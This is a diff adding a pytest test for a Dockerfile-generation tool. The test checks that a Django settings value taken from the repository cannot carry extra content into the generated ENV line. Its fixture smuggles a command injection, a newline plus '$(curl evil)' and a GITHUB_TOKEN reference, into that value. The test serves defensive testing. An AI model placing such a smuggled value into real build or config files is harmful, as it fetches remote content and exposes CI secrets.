@@ -68,3 +68,17 @@ def test_a_module_the_tree_does_not_hold_is_not_evidence(tmp_path):
         (tmp_path / rel).write_text(text)
     plan = make_plan(tmp_path, available_pythons=["3.11"], resolve=False)
     assert "config:env:DJANGO_SETTINGS_MODULE" not in plan.graph.nodes
+
+
+def test_the_value_is_the_module_path_alone_whatever_the_line_around_it_says(write_tree):
+    """The repository writes the line: only the dotted name of a module in its tree reaches the
+    Dockerfile's ENV, never what follows it on the line."""
+    hostile = RUNTESTS.replace(
+        "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.testing'",
+        "os.environ['DJANGO_SETTINGS_MODULE'] = 'shop.settings.testing\\n$(curl evil)' # ${GITHUB_TOKEN}",
+    )
+    plan = make_plan(write_tree({**FILES, "runtests.py": hostile}), available_pythons=["3.11"], resolve=False)
+    assert plan.graph.nodes["config:env:DJANGO_SETTINGS_MODULE"].attrs["value"] == "shop.settings.testing"
+    env_lines = [ln for ln in plan.dockerfile.text.splitlines() if ln.startswith("ENV DJANGO")]
+    assert env_lines == ["ENV DJANGO_SETTINGS_MODULE=shop.settings.testing"]
+    assert "curl" not in plan.dockerfile.text and "GITHUB_TOKEN" not in plan.dockerfile.text
